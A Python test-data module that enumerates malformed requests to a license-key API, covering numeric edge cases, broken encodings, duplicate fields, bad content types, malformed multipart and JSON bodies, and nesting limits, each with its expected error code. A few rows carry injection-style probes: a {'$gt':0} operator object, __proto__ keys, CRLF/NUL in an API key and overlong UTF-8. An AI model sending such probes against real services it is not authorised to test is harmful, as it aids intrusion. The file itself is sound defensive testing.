"""Malformed and odd requests, each with the code it is answered by (reliability.md 2.2).

`@KEY@` in a body, a path or a header stands for a good API key, `@NEW@` for an idempotency key that is used nowhere
else: 32 hexadecimal digits.
"""

import gzip
import json
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

GENERATE = "/api/v1/generate"
GENERATORS = "/api/v1/get-all-generators"
PUBLIC_KEY = "/api/v1/get-product-public-key"
FORM = "application/x-www-form-urlencoded"
JSON = "application/json"
MULTIPART = "multipart/form-data; boundary=X"
BEARER = ("Authorization", b"Bearer @KEY@")

UUID = "5f0c3b1a-8f1d-4a53-9a51-0d6c2f3a9b10"


@dataclass(frozen=True)
class Row:
    """One request and its verdict.

    Attributes:
        family: number in reliability.md 2.2.
        name: says what is odd about it.
        code: the verdict.
        headers: all of them, save Host and Content-Length.
        status: of the answer; None for the one that the code has.
        before: what was sent and carried out before it.
        replayed: whether the answer is that of `before`, byte for byte.
    """

    family: int
    name: str
    code: int
    body: bytes
    headers: tuple[tuple[str, bytes], ...]
    path: str = GENERATE
    method: str = "POST"
    status: int | None = None
    before: "Row | None" = None
    replayed: bool = False


def text(value: str) -> str:
    """For the name of a row."""
    shown = value if len(value) <= 60 else f"{value[:40]}... {len(value)} characters"
    return shown.encode("unicode_escape").decode("ascii")


def form(family: int, code: int, body: bytes | str, name: str = "", *, key: bool = True) -> Row:
    raw = body.encode() if isinstance(body, str) else body
    headers = (BEARER,) if key else ()
    return Row(
        family, f"form {name or text(raw.decode('latin-1'))}", code, raw, (("Content-Type", FORM.encode()), *headers)
    )


def js(family: int, code: int, body: bytes | str, name: str = "", *, key: bool = True) -> Row:
    raw = body.encode() if isinstance(body, str) else body
    headers = (BEARER,) if key else ()
    return Row(
        family, f"json {name or text(raw.decode('latin-1'))}", code, raw, (("Content-Type", JSON.encode()), *headers)
    )


def get(family: int, code: int, path: str, name: str = "") -> Row:
    return Row(family, f"get {name or text(path)}", code, b"", (BEARER,), path, "GET")


def typed(family: int, code: int, content_type: str | bytes | None, body: bytes) -> Row:
    raw = content_type.encode() if isinstance(content_type, str) else content_type
    headers = () if raw is None else (("Content-Type", raw),)
    name = "none" if raw is None else text(raw.decode("latin-1"))
    return Row(family, f"content type {name} for {body[:2].decode('latin-1')}", code, body, (*headers, BEARER))


def headed(family: int, code: int, *headers: tuple[str, bytes], body: bytes = b"generator_id=1&quantity=1") -> Row:
    shown = ", ".join(f"{name}: {text(value.decode('latin-1'))}" for name, value in headers)
    return Row(family, f"header {shown}", code, body, (("Content-Type", FORM.encode()), *headers))


def field(family: int, code: int, name: str, value: str) -> Row:
    """A good form, but for one field."""
    fields = {"generator_id": "1", "quantity": "1", name: value}
    body = "&".join(f"{quote(key)}={quote(worth, safe='')}" for key, worth in fields.items())
    return form(family, code, body, f"{name}={text(value)}")


def json_field(family: int, code: int, name: str, literal: str) -> Row:
    """A good JSON object, but for one field, whose value is written as it stands."""
    fields = {"generator_id": "1", "quantity": "1", name: literal}
    body = "{" + ",".join(f'"{key}":{worth}' for key, worth in fields.items()) + "}"
    return js(family, code, body, f"{name}: {text(literal)}")


def integers() -> Iterator[Row]:
    quantities = {
        " 10 ": 815, "010": 815, "0" * 5000 + "1": 815, "10\n": 815, "\t10\r\n": 815,
        "+10": 901, "1_0": 901, "-0": 901, "10.0": 901, "1.5": 901, "1.": 901, ".5": 901, "1e1": 901, "1E1": 901,
        "0x0a": 901, "0b11": 901, "0o17": 901, "9" * 5000: 901, "-" + "9" * 5000: 901, "NaN": 901, "Infinity": 901,
        "true": 901, "": 901, "null": 901, "None": 901, "1 0": 901, "--1": 901, "+-1": 901, "-": 901, "1,000": 901,
        "1'0": 901, "10L": 901, "10n": 901, "10%": 901, "$10": 901, "1/1": 901, "[]": 901, "ten": 901,
        "\u0661\u0660": 901, "\uff11\uff10": 901, "१०": 901, "²": 901, "⑩": 901, "\u2169": 901, "十": 901,
        "1\u0660": 901,
        "10\u00a0": 901, "\u200310": 901, "\u200b10": 901, "\u202e01": 901, "1\u0301": 901,
    }  # fmt: skip
    for value, code in quantities.items():
        yield field(1, code, "quantity", value)
    generators = {
        " 1 ": 815, "01": 815, "0" * 100 + "1": 815, "+1": 901, "1_0": 901, "-0": 901, "-1": 901, "1.0": 901,
        "1e0": 901, "0x1": 901, "\uff11": 901, "²": 901, "\u0661": 901, "true": 901, "": 901, "9" * 5000: 806,
    }  # fmt: skip
    for value, code in generators.items():
        yield field(1, code, "generator_id", value)
    literals = {
        "10": 815, '"10"': 815, '" 10 "': 815, "10.0": 901, "1e1": 901, "0.1e2": 901, "1E400": 901, "1e-400": 901,
        "-0": 901, "-0.0": 901, "true": 901, "false": 901, "null": 901, '""': 901, "[]": 901, "[10]": 901, "{}": 901,
        '{"$gt":0}': 901, "9" * 5000: 901, "-" + "9" * 5000: 901, '"10.0"': 901, '"1e1"': 901, '"\\u0661"': 901,
        "+10": 1703, "010": 1703, "-010": 1703, "0x0a": 1703, "1_0": 1703, "NaN": 1703, "Infinity": 1703,
        "-Infinity": 1703, ".5": 1703, "1.": 1703, "1e": 1703, "-": 1703, "1 0": 1703, "True": 1703, "None": 1703,
    }  # fmt: skip
    for literal, code in literals.items():
        yield json_field(1, code, "quantity", literal)


def ranges() -> Iterator[Row]:
    verdicts: dict[str, dict[int, int]] = {
        "quantity": {
            0: 901, -1: 901, 1: 815, 1001: 901, 2**31 - 1: 901, 2**31: 901, 2**53: 901, 2**63 - 1: 901, 2**63: 901,
            2**64: 901, 10**30: 901, -(2**31): 901, -(2**63): 901, -(10**30): 901,
        },
        "generator_id": {
            0: 806, 2**31 - 1: 806, 2**31: 806, 2**53: 806, 2**63 - 1: 806, 2**63: 806, 2**64: 806, 10**30: 806,
        },
        "activation_limit": {
            -1: 815, 0: 815, 2**31 - 1: 815, -2: 901, 2**31: 901, 2**63 - 1: 901, 2**63: 901, -(2**63): 901,
        },
        "validity_days": {0: 815, 10**6: 815, -1: 901, 10**6 + 1: 901, 2**31: 901, 2**63: 901, -(2**63): 901},
    }  # fmt: skip
    for name, values in verdicts.items():
        for value, code in values.items():
            yield field(2, code, name, str(value))
            yield json_field(2, code, name, str(value))
    for value, code in {0: 820, 2**63 - 1: 820, 2**63: 820, 10**30: 820}.items():
        yield get(2, code, f"{GENERATORS}?product_id={value}")


def controls() -> Iterator[Row]:
    for character in ("\0", "\x01", "\x1b", "\x7f", "\x85", "\u2028", "\ufeff"):
        yield field(3, 901, "quantity", f"1{character}")
        yield field(3, 901, "generator_id", f"1{character}")
        yield field(3, 815, "identifier", f"host{character}")
        yield field(3, 815, f"unknown{character}", character)
    yield field(3, 901, "generator_id", f"{UUID}\0")
    yield field(3, 901, "activation_limit", "\0")
    yield field(3, 901, "validity_days", "1\0")
    yield form(3, 901, "generator_id=1&quantity%00=1")
    yield form(3, 100, "api_key=@KEY@%00&generator_id=1&quantity=1", key=False)
    yield form(3, 100, "api_key=%00@KEY@&generator_id=1&quantity=1", key=False)
    yield form(3, 100, "api_key=%00&generator_id=1&quantity=1", key=False)
    yield form(3, 815, "api_key=@KEY@%0D%0A&generator_id=1&quantity=1", key=False)
    yield form(3, 901, b"\0" * 10, "only NUL")
    yield json_field(3, 901, "quantity", '"1\\u0000"')
    yield json_field(3, 901, "generator_id", '"\\u0000"')
    yield json_field(3, 815, "identifier", '"\\u0000"')
    yield js(3, 1703, b'{"generator_id":1,"quantity":"1\0"}', "raw NUL in text")
    yield js(3, 1703, b'{"generator_id":1,"quantity":1,\0}', "raw NUL")
    yield get(3, 901, f"{GENERATORS}?product_id=%00")
    yield get(3, 901, f"{GENERATORS}?product_id=demo%00")
    yield get(3, 633, f"{PUBLIC_KEY}?product_id=demo%00")
    yield get(3, 633, f"{PUBLIC_KEY}?product_id=%1b")


def broken_text() -> Iterator[Row]:
    broken = {
        "surrogate": "%ED%A0%80", "pair of surrogates": "%ED%A0%BD%ED%B8%80", "no start": "%80", "FF": "%FF",
        "FE": "%FE%FF", "overlong slash": "%C0%AF", "overlong NUL": "%C0%80", "overlong three": "%E0%80%AF",
        "cut off after one": "%C3", "cut off after two": "%E2%82", "cut off after three": "%F0%9F%98",
        "beyond Unicode": "%F4%90%80%80", "five bytes": "%F8%88%80%80%80", "latin-1": "%E9",
    }  # fmt: skip
    for name, sequence in broken.items():
        yield form(4, 1703, f"generator_id=1&quantity=1&identifier={sequence}", name)
    yield form(4, 1703, "generator_id=1&quantity=1&%FF=x")
    yield form(4, 1703, "api_key=%FF&generator_id=1&quantity=1", key=False)
    yield form(4, 1703, b"generator_id=1&quantity=1&x=\xff", "raw byte")
    yield form(4, 815, "generator_id=1&quantity=1&x=é", "raw UTF-8")
    yield form(4, 901, b"\xef\xbb\xbfquantity=1&generator_id=1", "byte order mark")
    yield form(4, 1703, "generator_id=1&quantity=1".encode("utf-16"), "UTF-16")
    good = '{"generator_id":1,"quantity":1}'
    yield js(4, 1703, b"\xef\xbb\xbf" + good.encode(), "byte order mark")
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le"):
        yield js(4, 1703, good.encode(encoding), encoding)
    yield js(4, 1703, b'{"generator_id":1,"quantity":1,"x":"\xe9"}', "latin-1")
    yield js(4, 1703, b'{"generator_id":1,"quantity":1,"x":"\xed\xa0\x80"}', "raw surrogate")
    yield json_field(4, 901, "quantity", '"\\ud800"')
    yield json_field(4, 901, "generator_id", '"\\ud800"')
    yield json_field(4, 815, "identifier", '"\\ud800"')
    yield json_field(4, 815, "identifier", '"\\udc00\\ud800"')
    yield json_field(4, 815, "identifier", '"\\ud83d\\ude00"')
    yield json_field(4, 815, "\\ud800", '"x"')
    yield js(4, 100, '{"api_key":"\\ud800","generator_id":1,"quantity":1}', key=False)
    yield js(4, 100, '{"api_key":"@KEY@\\udfff","generator_id":1,"quantity":1}', key=False)
    for charset, code in {
        "utf-8": 815, "UTF-8": 815, "utf8": 815, '"utf-8"': 815, "": 815,
        "utf-7": 1704, "latin-1": 1704, "iso-8859-1": 1704, "us-ascii": 1704, "utf-16": 1704, "bogus": 1704,
        '"utf-8\\"': 1704, "utf-8, latin-1": 1704, "utf_8": 1704, "\xff": 1704,
    }.items():  # fmt: skip
        for kind, body in ((FORM, b"generator_id=1&quantity=1"), (JSON, good.encode())):
            yield typed(4, code, f"{kind}; charset={charset}".encode("latin-1"), body)
    yield multipart(4, 1703, part("generator_id", "1"), part("quantity", b"\xff"), name="value that is not UTF-8")
    yield multipart(4, 1703, good_parts(), part(b"\xff", "1"), name="name that is not UTF-8")
    yield get(4, 1703, f"{GENERATORS}?product_id=%FF")
    yield get(4, 1703, f"{PUBLIC_KEY}?%ED%A0%80=1")


def over_long() -> Iterator[Row]:
    for length in (256, 1000, 60_000):
        yield form(5, 100, f"api_key={'a' * length}&generator_id=1&quantity=1", f"api_key of {length}", key=False)
        yield field(5, 901, "generator_id", "a" * length)
        yield field(5, 901, "generator_id", UUID + "0" * length)
        yield field(5, 815, "identifier", "a" * length)
        yield field(5, 815, "unknown", "a" * length)
        yield field(5, 815, "u" * length, "x")
        yield field(5, 901, "quantity", "9" * length)
        yield json_field(5, 815, "identifier", json.dumps("é" * (length // 6)))
    yield form(5, 100, f"api_key=@KEY@{'0' * 200}&generator_id=1&quantity=1", "padded key", key=False)
    yield form(5, 1702, f"api_key={'a' * 1_000_000}", "key of a megabyte", key=False)
    yield form(5, 1702, b"generator_id=1&quantity=1&x=" + b"a" * 65_509, "one byte too many")
    yield form(5, 815, b"generator_id=1&quantity=1&x=" + b"a" * 65_508, "exactly full")
    yield headed(5, 100, ("X-API-Key", b"a" * 8000))
    yield headed(5, 100, ("Authorization", b"Bearer " + b"a" * 8000))
    for length, code in {100: 820, 101: 901, 8000: 901}.items():
        yield get(5, code, f"{GENERATORS}?product_slug={'a' * length}")
    yield get(5, 633, f"{PUBLIC_KEY}?product_slug={'a' * 8000}")


def duplicates() -> Iterator[Row]:
    yield form(6, 815, "generator_id=1&quantity=abc&quantity=2")
    yield form(6, 901, "generator_id=1&quantity=2&quantity=abc")
    yield form(6, 901, "generator_id=1&quantity=2&quantity=")
    yield form(6, 806, "generator_id=1&generator_id=999999&quantity=1")
    yield form(6, 815, "generator_id=999999&generator_id=1&quantity=1")
    yield form(6, 100, "api_key=@KEY@&api_key=wrong&generator_id=1&quantity=1", key=False)
    yield form(6, 815, "api_key=wrong&api_key=@KEY@&generator_id=1&quantity=1", key=False)
    yield form(6, 901, "generator_id=1&quantity[]=1")
    yield form(6, 901, "generator_id=1&quantity%5B%5D=1")
    yield form(6, 901, "generator_id=1&quantity[0]=1&quantity[1]=2")
    yield form(6, 901, "generator_id=1&quantity[a]=1")
    yield form(6, 901, "generator_id=1&QUANTITY=1")
    yield form(6, 815, "generator_id=1&quantity=1&Quantity=abc")
    yield form(6, 815, "generator_id=1&quantity=1&count=abc")
    yield form(6, 901, "generator_id=1&quantity=abc&count=1")
    yield form(6, 815, "generator_id=1&generator_uuid=abc&quantity=1")
    yield js(6, 815, '{"generator_id":1,"quantity":"abc","quantity":2}')
    yield js(6, 901, '{"generator_id":1,"quantity":2,"quantity":"abc"}')
    yield js(6, 901, '{"generator_id":1,"quantity":2,"quantity":null}')
    yield js(6, 815, '{"generator_id":1,"quantity":"x","\\u0071uantity":2}')
    yield js(6, 100, '{"api_key":"@KEY@","api_key":"wrong","generator_id":1,"quantity":1}', key=False)
    yield multipart(6, 815, good_parts("x"), part("quantity", "1"), name="quantity twice, the last good")
    yield multipart(6, 901, good_parts(), part("quantity", "x"), name="quantity twice, the last bad")
    for query, body, code in (
        ("quantity=5", b"generator_id=1", 901),
        ("generator_id=1&quantity=1", b"", 901),
        ("quantity=abc", b"generator_id=1&quantity=1", 815),
        ("api_key=wrong", b"generator_id=1&quantity=1", 815),
        ("%FF", b"generator_id=1&quantity=1", 815),
    ):
        headers = (("Content-Type", FORM.encode()), BEARER)
        yield Row(6, f"query {query} for {text(body.decode())}", code, body, headers, f"{GENERATE}?{query}")
    yield get(6, 820, f"{GENERATORS}?product_id=abc!&product_id=1")
    yield get(6, 901, f"{GENERATORS}?product_id=1&product_id=abc!")
    yield get(6, 820, f"{GENERATORS}?product_id[]=1")
    yield headed(6, 815, BEARER, ("Authorization", b"Bearer wrong"))
    yield headed(6, 100, ("Authorization", b"Bearer wrong"), BEARER)
    yield headed(6, 815, ("X-API-Key", b"@KEY@"), ("X-API-Key", b"wrong"))
    yield headed(6, 1704, ("Content-Type", JSON.encode()), BEARER)
    yield headed(6, 1704, ("Content-Type", FORM.encode()), BEARER)


def content_types() -> Iterator[Row]:
    a_form, a_json = b"generator_id=1&quantity=1", b'{"generator_id":1,"quantity":1}'
    a_multipart = b"".join((good_parts(), b"--X--\r\n"))
    for kind, body, code in (
        (None, a_form, 1704),
        (None, a_json, 1704),
        (None, b"", 901),
        (None, b"  \r\n", 901),
        ("text/plain", b"", 901),
        ("", a_form, 1704),
        ("text/plain", a_form, 1704),
        ("text/html", a_form, 1704),
        ("text/xml", b"<a/>", 1704),
        ("text/json", a_json, 1704),
        ("application/xml", b"<a/>", 1704),
        ("application/octet-stream", a_form, 1704),
        ("application/jsonx", a_json, 1704),
        ("application/json-seq", a_json, 1704),
        ("application/problem+json", a_json, 1704),
        ("application/vnd.api+json", a_json, 1704),
        ("application/*", a_json, 1704),
        ("*/*", a_json, 1704),
        ("json", a_json, 1704),
        ("application", a_json, 1704),
        ("/", a_json, 1704),
        (";", a_json, 1704),
        ("; charset=utf-8", a_json, 1704),
        ("application/json, text/plain", a_json, 1704),
        ("application/json application/json", a_json, 1704),
        (b"application/json\xff", a_json, 1704),
        (b"\xc3\xa9", a_json, 1704),
        ("multipart/mixed; boundary=X", a_multipart, 1704),
        ("multipart/related; boundary=X", a_multipart, 1704),
        ("application/x-www-form-urlencoded", a_json, 901),
        ("application/x-www-form-urlencoded", a_multipart, 901),
        ("application/json", a_form, 1703),
        ("application/json", a_multipart, 1703),
        ("multipart/form-data; boundary=X", a_form, 1703),
        ("multipart/form-data; boundary=X", a_json, 1703),
        ("multipart/form-data", a_multipart, 1703),
        ("multipart/form-data; boundary=", a_multipart, 1703),
        ('multipart/form-data; boundary=""', a_multipart, 1703),
        ("multipart/form-data; boundary=Y", a_multipart, 1703),
        ("multipart/form-data; boundary=XX", a_multipart, 1703),
        ("multipart/form-data; boundary=x", a_multipart, 1703),
        ("multipart/form-data; border=X", a_multipart, 1703),
        ("multipart/form-data; boundary*=utf-8''X", a_multipart, 1703),
        ("multipart/form-data; boundary=" + "X" * 257, a_multipart.replace(b"X", b"X" * 257), 1703),
        ('multipart/form-data; boundary="X"', a_multipart, 815),
        ("multipart/form-data;boundary=X", a_multipart, 815),
        ("multipart/form-data; charset=utf-8; boundary=X", a_multipart, 815),
        ("MULTIPART/Form-Data; BOUNDARY=X", a_multipart, 815),
        ("multipart/form-data; boundary=" + "X" * 70, a_multipart.replace(b"X", b"X" * 70), 815),
        ("APPLICATION/JSON", a_json, 815),
        ("application/json;", a_json, 815),
        ("application/json;charset=utf-8", a_json, 815),
        ("application/json ; charset=utf-8", a_json, 815),
        ("application/json; q=1; version=2", a_json, 815),
        ("application/json; charset*=latin-1''x", a_json, 815),
        ("application/json; boundary=X", a_json, 815),
        ("application/json; ;;=;=x;", a_json, 815),
        ("Application/X-WWW-Form-Urlencoded; a=b", a_form, 815),
    ):
        yield typed(7, code, kind, body)
    for kind in (JSON, "text/plain", MULTIPART, "multipart/form-data", "\xff"):
        headers = (("Content-Type", kind.encode("latin-1")), BEARER)
        yield Row(7, f"get with content type {text(kind)}", 820, b"", headers, GENERATORS, "GET")
        yield Row(7, f"get with a body of type {text(kind)}", 820, b"{", headers, GENERATORS, "GET")
        yield Row(7, f"no body of type {text(kind)}", 901, b"", headers)


def forms() -> Iterator[Row]:
    good = "generator_id=1&quantity=1"
    verdicts: dict[str, int] = {
        "&" + good: 815, good + "&": 815, "generator_id=1&&quantity=1": 815, good + "&=": 815, "=&=x&" + good: 815,
        good + "&x": 815, good + "&x=y=z": 815, good + "&a[b][c][d]=1": 815, good + "&[=1": 815, good + "&%=%": 815,
        good + "\r\n": 815, "generator_id=1&quantity=+1": 815, "generator_id=%31&quantity=%31": 815,
        "%67enerator_id=1&quantity=1": 815, "generator_id=+1+&quantity=1": 815, good + "&__proto__=1": 815,
        "=": 901, "&": 901, "%": 901, "generator_id=1;quantity=1": 901, "generator_id=1&quantity=%": 901,
        "generator_id=1&quantity=%4": 901, "generator_id=1&quantity=%zz": 901, "generator_id=1&quantity=%u0031": 901,
        "generator_id=1&quantity=%2531": 901, "generator_id=1&quantity==1": 901, "generator_id=1&quantity": 901,
        "generator_id=1&quantity%3D1": 901, "generator_id=1&amp;quantity=1": 901, "generator_id=1&quantity=1#x": 901,
        "generator_id=1\nquantity=1": 901, "generator_id = 1&quantity=1": 901, "?" + good: 901, "?" + good + "&": 901,
        "generator_id=1&+quantity=1": 901, "generator_id=1&quantity=1%201": 901, "generator_id:1&quantity:1": 901,
        '{"generator_id":1}=': 901, "generator_id=%22 1%22&quantity=1": 901, "generator_id=1&'quantity'=1": 901,
        "generator_id=1,quantity=1": 901, "generator_id=1|quantity=1": 901, "generator_id=1&quantity=1&quantity": 901,
        "generator.id=1&quantity=1": 901, "generator id=1&quantity=1": 901,
    }  # fmt: skip
    for body, code in verdicts.items():
        yield form(8, code, body)
    yield form(8, 815, good + "&x=1" * 62, "64 fields")
    yield form(8, 1703, good + "&x=1" * 63, "65 fields")
    yield form(8, 1703, good + "&" * 63, "63 empty fields more")
    yield form(8, 1703, "&" * 60_000, "60,000 ampersands")
    yield form(8, 901, "=" * 60_000, "60,000 equals signs")
    yield form(8, 901, "%" * 60_000, "60,000 percent signs")
    yield form(8, 901, "+" * 60_000, "60,000 plus signs")
    yield form(8, 901, " " * 60_000, "60,000 blanks")
    yield form(8, 901, "%00" * 20_000, "20,000 escaped NUL")
    yield get(8, 820, f"{GENERATORS}?" + "&".join(["x=1"] * 64), "64 fields")
    yield get(8, 1703, f"{GENERATORS}?" + "&".join(["x=1"] * 65), "65 fields")
    yield get(8, 820, f"{GENERATORS}?", "empty query")
    yield get(8, 820, f"{GENERATORS}?%", "percent sign")
    yield get(8, 820, f"{GENERATORS}?a?b?c", "question marks")


def part(name: str | bytes, value: str | bytes, *headers: bytes) -> bytes:
    raw_name = name.encode() if isinstance(name, str) else name
    raw_value = value.encode() if isinstance(value, str) else value
    lines = [b'Content-Disposition: form-data; name="%b"' % raw_name, *headers]
    return b"--X\r\n" + b"\r\n".join(lines) + b"\r\n\r\n" + raw_value + b"\r\n"


def raw_part(header: bytes, value: bytes = b"1") -> bytes:
    return b"--X\r\n" + header + b"\r\n\r\n" + value + b"\r\n"


def good_parts(quantity: str = "1") -> bytes:
    return part("generator_id", "1") + part("quantity", quantity)


def multipart(family: int, code: int, *parts: bytes, name: str, end: bytes = b"--X--\r\n") -> Row:
    headers = (("Content-Type", MULTIPART.encode()), BEARER)
    return Row(family, f"multipart {name}", code, b"".join(parts) + end, headers)


def multiparts() -> Iterator[Row]:
    good = good_parts()
    disposition = b"Content-Disposition: form-data; "
    quantity = b'name="quantity"'
    one = part("generator_id", "1")
    yield multipart(9, 815, good, name="good")
    yield multipart(9, 815, good, end=b"--X--", name="without a final line end")
    yield multipart(9, 815, good, end=b"--X--\r\nepilogue", name="epilogue")
    yield multipart(9, 815, b"\r\n", good, name="line end before it")
    yield multipart(9, 1703, b"preamble\r\n", good, name="preamble")
    yield multipart(9, 1703, good, end=b"", name="no end")
    yield multipart(9, 1703, good, end=b"--X", name="half an end")
    yield multipart(9, 1703, good, end=b"--X-", name="almost an end")
    yield multipart(9, 1703, good, end=b"--Y--\r\n", name="the end of another")
    yield multipart(9, 1703, good[:20], end=b"", name="cut off in a header")
    yield multipart(9, 1703, good[:-3], end=b"", name="cut off in a value")
    yield multipart(9, 1703, good[2:], name="cut off at the start")
    yield multipart(9, 1703, good.replace(b"\r\n", b"\n"), end=b"--X--\n", name="bare line feeds")
    yield multipart(9, 1703, good.replace(b"\r\n", b"\r"), end=b"--X--\r", name="bare carriage returns")
    yield multipart(9, 901, name="only the end")
    yield multipart(9, 1703, b"--X\r\n", name="an empty part")
    yield multipart(9, 1703, b"--X\r\n\r\n1\r\n", good, name="a part without headers")
    yield multipart(9, 1703, raw_part(disposition + b'name="x"; filename="a.txt"'), good, name="a file")
    yield multipart(9, 1703, raw_part(disposition + b'name="x"; filename=""'), good, name="no file chosen")
    yield multipart(9, 1703, one, raw_part(disposition + quantity + b'; filename="q"'), name="quantity as a file")
    yield multipart(9, 815, one, raw_part(disposition + quantity + b"; filename*=utf-8''q"), name="extended file name")
    yield multipart(9, 901, one, raw_part(disposition + b"name*=utf-8''quantity; name=x"), name="extended name")
    yield multipart(9, 1703, one, raw_part(disposition + b"name*=utf-8''quantity"), name="only an extended name")
    yield multipart(9, 1703, raw_part(b"Content-Type: text/plain"), good, name="no disposition")
    yield multipart(9, 1703, raw_part(b"Content-Disposition: form-data"), good, name="no name")
    yield multipart(9, 1703, raw_part(b"Content-Disposition: "), good, name="empty disposition")
    yield multipart(9, 1703, raw_part(b'Content-Disposition: attachment; name="x"'), good, name="attachment")
    yield multipart(9, 815, raw_part(disposition + b'name=""'), good, name="empty name")
    yield multipart(9, 815, one, raw_part(disposition + b"name=quantity"), name="name without quotes")
    yield multipart(9, 901, one, raw_part(disposition + b"name='quantity'"), name="name in single quotes")
    yield multipart(9, 815, one, raw_part(b"CONTENT-DISPOSITION: Form-Data; NAME=quantity"), name="capitals")
    yield multipart(9, 815, one, raw_part(b"content-disposition:form-data;name=quantity"), name="no blanks")
    yield multipart(
        9, 1703, one, raw_part(b"Content-Disposition : form-data; name=quantity"), name="blank before colon"
    )
    yield multipart(9, 1703, one, raw_part(disposition + b"\r\n name=quantity"), name="folded header")
    yield multipart(9, 1703, good, raw_part(b"no colon"), name="header without a colon")
    yield multipart(9, 1703, good, raw_part(b": no name"), name="header without a name")
    yield multipart(9, 1703, good, raw_part(b"a b: c\r\n" + disposition + b"name=x"), name="blank in a header name")
    yield multipart(9, 1703, good, raw_part(b"\xff: c\r\n" + disposition + b"name=x"), name="header name not ASCII")
    yield multipart(9, 815, good, raw_part(b"a: \xff\r\n" + disposition + b"name=x"), name="header value not ASCII")
    yield multipart(9, 1703, good, raw_part(disposition + b'name="\xff"'), name="name not UTF-8")
    yield multipart(9, 815, good, raw_part(disposition + "name=é".encode()), name="name in UTF-8")
    yield multipart(9, 815, good, raw_part(disposition + b'name="a\\"b"'), name="escaped quote in a name")


def multipart_values() -> Iterator[Row]:
    good = good_parts()
    one = part("generator_id", "1")
    yield multipart(9, 815, good, part("x", "1", b"Content-Type: text/plain"), name="part of type text")
    yield multipart(9, 815, good, part("x", "1", b"Content-Type: image/png"), name="part of type image")
    yield multipart(9, 815, good, part("x", "{", b"Content-Type: application/json"), name="part of type JSON")
    yield multipart(9, 815, good, part("x", "1", b"Content-Type: text/plain; charset=utf-7"), name="part in utf-7")
    yield multipart(9, 815, good, part("x", "1", b"Content-Length: 99"), name="part with a wrong length")
    yield multipart(9, 815, good, part("_charset_", "utf-7"), name="_charset_")
    transfer = b"Content-Transfer-Encoding: "
    yield multipart(9, 901, one, part("quantity", "MQ==", transfer + b"base64"), name="base64")
    yield multipart(9, 901, one, part("quantity", "=31", transfer + b"quoted-printable"), name="quoted-printable")
    yield multipart(9, 815, one, part("quantity", "1", transfer + b"bogus"), name="bogus transfer encoding")
    yield multipart(9, 901, one, part("quantity", "--X"), name="almost a boundary in a value")
    yield multipart(9, 901, one, part("quantity", "\r\n--Y\r\n"), name="another boundary in a value")
    yield multipart(9, 815, one, part("quantity", " 1\r\n"), name="blanks around a value")
    yield multipart(9, 901, one, part("quantity", "1\0"), name="NUL in a value")
    yield multipart(9, 901, one, part("quantity\0", "1"), name="NUL in a name")
    yield multipart(9, 901, one, part("quantity", ""), name="empty value")
    yield multipart(9, 815, good, part("x", "1") * 62, name="64 parts")
    yield multipart(9, 1703, good, part("x", "1") * 63, name="65 parts")
    yield multipart(9, 1703, good, b"--X\r\n" * 1000, name="a thousand boundaries")
    yield multipart(9, 1703, good, part("x", "1", *[b"a: b"] * 1000), name="a thousand headers")
    yield multipart(9, 1703, good, part("x", "1", b"a: " + b"b" * 20_000), name="a header of 20,000 bytes")
    yield multipart(9, 1703, good, part("x", "1", b"a" * 20_000 + b": b"), name="a header name of 20,000 bytes")
    yield multipart(9, 815, good, part("x", "1" * 60_000), name="a value of 60,000 bytes")
    nested = b"--Y\r\nContent-Disposition: form-data\r\n\r\n1\r\n--Y--"
    kind = b"Content-Type: multipart/mixed; boundary=Y"
    yield multipart(9, 901, one, part("quantity", nested, kind), name="nested")
    yield multipart(9, 1702, good, end=b"--X--\r\n" + b"e" * 70_000, name="a long epilogue")
    yield multipart(9, 1702, b"p" * 70_000, good, name="a long preamble")


def good_and(more: str) -> str:
    return '{"generator_id":1,"quantity":1,' + more + "}"


def jsons() -> Iterator[Row]:
    good = '"generator_id":1,"quantity":1'
    verdicts: dict[str, int] = {
        "{%s}": 815, " \r\n\t{%s}\r\n": 815, '{%s,"x":null}': 815, '{%s,"":""}': 815, '{%s,"__proto__":{}}': 815,
        '{%s,"x":1e999}': 815, '{%s,"x":-1e999}': 815, '{%s,"x":"\\u0000"}': 815, '{%s,"x":"\\/"}': 815,
        "{%s}}": 1703, "{%s": 1703, "{%s,}": 1703, "{,%s}": 1703, "{%s}{}": 1703, "{%s} x": 1703, "{{%s}}": 1703,
        "[{%s}]": 1703, '{%s,"x":NaN}': 1703, '{%s,"x":Infinity}': 1703, '{%s,"x":-Infinity}': 1703,
        '{%s,"x":"\\x"}': 1703, '{%s,"x":"\\u12"}': 1703, '{%s,"x":"a\nb"}': 1703, '{%s,"x":"a\tb"}': 1703,
        "{%s,'x':1}": 1703, "{%s,x:1}": 1703, '{%s,"x":1/*y*/}': 1703, "{%s}//": 1703, '{%s,"x"}': 1703,
        '{%s,"x":}': 1703, '{%s,"x":1,,"y":1}': 1703, '{%s "x":1}': 1703, '{%s,"x":undefined}': 1703,
        '{%s,"x":0x1}': 1703, '{%s,"x":01}': 1703, "{%s,1:1}": 1703, "\\ufeff{%s}": 1703,
    }  # fmt: skip
    for form_, code in verdicts.items():
        yield js(10, code, form_.replace("%s", good), form_)
    for root, code in {
        "{}": 901, "[]": 901, "": 901, "  ": 901, "[1]": 1703, "[[]]": 1703, "null": 1703, "true": 1703, "0": 1703,
        '"x"': 1703, '""': 1703, "{": 1703, "}": 1703, "[": 1703, "x": 1703, "nul": 1703, '"': 1703, "-": 1703,
        "<xml/>": 1703, "{]": 1703, '[["api_key","x"]]': 1703,
    }.items():  # fmt: skip
        yield js(10, code, root, f"root {root}")
    for depth, code in {50: 815, 63: 815, 64: 1703, 500: 1703, 5000: 1703, 30_000: 1703}.items():
        yield js(10, code, good_and('"x":' + "[" * depth + "]" * depth), f"{depth} arrays deep")
    yield js(10, 1703, '{"a":' * 5000 + "1" + "}" * 5000, "5,000 objects deep")
    yield js(10, 1703, "[" * 60_000, "60,000 open arrays")
    yield js(10, 815, good_and('"x":' + "9" * 5000), "a number of 5,000 digits")
    yield js(10, 815, good_and('"x":0.' + "9" * 5000), "a fraction of 5,000 digits")
    yield js(10, 815, good_and('"x":1e' + "9" * 400), "an exponent of 400 digits")
    yield js(10, 815, good_and('"x":[' + ",".join(["1"] * 20_000) + "]"), "an array of 20,000")
    yield js(10, 815, good_and(",".join(f'"x{n}":1' for n in range(1000))), "a thousand fields")
    yield js(10, 815, '{"\\u0067enerator_id":1,"quantity":"\\u0031"}', "escaped names and values")
